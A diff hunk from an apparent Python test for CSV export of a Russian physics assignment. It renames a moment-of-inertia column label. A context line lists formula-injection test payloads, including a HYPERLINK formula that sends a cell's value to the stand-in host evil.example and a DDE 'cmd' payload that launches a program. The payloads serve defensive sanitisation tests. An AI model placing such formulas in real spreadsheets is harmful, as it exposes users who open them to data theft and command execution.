@@ -31,7 +31,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 NAMES = list(dict.fromkeys(clean(p) for p in PAYLOADS))      # as registered: a leading tab or CR is not kept
 # the instructor's CSV of a ru assignment: ";" between cells, a decimal comma, the columns in words
 STUDENT, VARIANT, LINK = "Студент", "Вариант", "Личная ссылка"
-INERTIA = "Момент инерции маховика J_м (точный, для заданного δ)"
+INERTIA = "Момент инерции маховика I_м (точный, для заданного δ)"
 ANSWER, CORRECT = f"{INERTIA}: ответ", f"{INERTIA}: Правильный ответ"
 
 
